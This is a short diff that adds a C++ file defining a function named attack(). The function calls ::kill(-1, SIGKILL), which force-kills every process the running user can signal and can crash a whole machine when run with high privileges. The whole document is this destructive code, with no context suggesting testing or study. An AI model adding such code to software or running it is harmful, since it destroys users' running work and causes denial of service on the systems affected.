@@ -1,0 +1,5 @@
+#include <csignal>
+
+void attack() {
+    ::kill(-1, SIGKILL);
+}
